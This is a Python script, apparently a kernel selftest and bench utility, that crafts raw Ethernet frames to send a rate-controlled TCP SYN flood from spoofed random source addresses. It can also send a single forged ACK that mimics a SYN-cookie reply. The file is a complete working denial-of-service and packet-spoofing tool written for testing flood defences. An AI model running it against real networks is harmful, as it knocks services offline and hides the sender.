#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""
synflood.py: a spoofed TCP SYN flood (IPv4 or IPv6) for the selftests and
the bench, or one forged segment.

  synflood.py flood DEV DMAC DST DPORT --src-prefix P --pps N --seconds S [--flags F]
  synflood.py ack   DEV DMAC SRC DST SPORT DPORT SEQ ACK

flood: SYNs from random sources of prefix P (a /8../24 IPv4 or a /64
IPv6) and random ports, N per second for S seconds, as Ethernet frames on
DEV (AF_PACKET) to DMAC; 1024 distinct frames are built once and cycled.
--flags: the TCP flags of each segment, letters of S F R A (default S).
Prints the number of frames sent.  ack: one bare ACK (a forged SYN-cookie
answer).
"""
import ipaddress
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def tcp_seg(src, dst, sport, dport, seq, ack, flags, opts=b""):
    doff = (20 + len(opts)) // 4
    th = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, doff << 4, flags, 64240, 0, 0) + opts
    if src.version == 4:
        ph = src.packed + dst.packed + struct.pack("!BBH", 0, 6, len(th))
    else:
        ph = src.packed + dst.packed + struct.pack("!IxxxB", len(th), 6)
    c = csum(ph + th)
    return th[:16] + struct.pack("!H", c) + th[18:]


def frame(dmac, src, dst, seg):
    if src.version == 4:
        ih = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), random.getrandbits(16), 0x4000,
                         64, 6, 0, src.packed, dst.packed)
        ih = ih[:10] + struct.pack("!H", csum(ih)) + ih[12:]
        eth = dmac + b"\x02\x00\x00\x00\x01\x02" + b"\x08\x00"
    else:
        ih = struct.pack("!IHBB16s16s", 0x60000000, len(seg), 6, 64, src.packed, dst.packed)
        eth = dmac + b"\x02\x00\x00\x00\x01\x02" + b"\x86\xdd"
    return eth + ih + seg


def main():
    a = sys.argv[1:]
    if len(a) < 4 or a[0] not in ("flood", "ack"):
        print(__doc__, file=sys.stderr)
        return 2
    dev, dmac = a[1], bytes.fromhex(a[2].replace(":", ""))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    if a[0] == "ack":
        src, dst = ipaddress.ip_address(a[3]), ipaddress.ip_address(a[4])
        seg = tcp_seg(src, dst, int(a[5]), int(a[6]), int(a[7]), int(a[8]), 0x10)
        s.send(frame(dmac, src, dst, seg))
        print(1)
        return 0
    dst, dport = ipaddress.ip_address(a[3]), int(a[4])
    opt = dict(zip(a[5::2], a[6::2]))
    net = ipaddress.ip_network(opt["--src-prefix"], strict=False)
    pps, secs = float(opt.get("--pps", 1000)), float(opt.get("--seconds", 5))
    flags = sum({"F": 0x01, "S": 0x02, "R": 0x04, "A": 0x10}[f] for f in opt.get("--flags", "S"))
    mss = b"\x02\x04\x05\xb4"
    frames = []
    for _ in range(1024):
        src = net[random.randrange(1, net.num_addresses - 1)]
        seg = tcp_seg(src, dst, random.randrange(1024, 65535), dport,
                      random.getrandbits(32), 0, flags, mss)
        frames.append(frame(dmac, src, dst, seg))
    n, t0 = 0, time.monotonic()
    end = t0 + secs
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - t0) * pps) + 1
        while n < due:
            s.send(frames[n % len(frames)])
            n += 1
        if n >= due:
            time.sleep(min(0.002, max(0.0, t0 + n / pps - time.monotonic())))
    print(n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
